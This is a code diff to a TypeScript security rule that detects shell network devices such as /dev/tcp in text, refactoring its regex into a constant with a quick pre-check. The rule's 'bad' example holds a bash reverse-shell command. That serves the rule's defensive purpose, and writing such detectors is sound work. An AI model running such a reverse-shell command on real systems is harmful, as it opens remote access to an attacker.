@@ -4,6 +4,8 @@ import type { Rule } from '../rule.ts'
 import { comesFrom, sketch, startOf } from '../values.ts'
 import { isShell, line, shell, words } from './shell-ask.ts'
 
+const networkDevice = /\/dev\/(tcp|udp)\/[\w.$-]+\/|\/inet\d?\/(tcp|udp)\//
+
 export const shellNetworkRules: readonly Rule[] = [
   {
     id: 'shell/network-device',
@@ -38,7 +40,7 @@ export const shellNetworkRules: readonly Rule[] = [
     description: 'A text names a network device of the shell.',
     recommendation: 'Remove it.',
     implies: ['connect'],
-    match: { on: 'text', when: ({ text }) => /\/dev\/(tcp|udp)\/[\w.$-]+\/|\/inet\d?\/(tcp|udp)\//.test(text) },
+    match: { on: 'text', when: ({ text }) => text.includes('p/') && networkDevice.test(text) },
     examples: { bad: ["echo 'bash -i >& /dev/tcp/h/9 0>&1' > job.sh"], good: ["echo '/dev/null'"] },
   },
   {
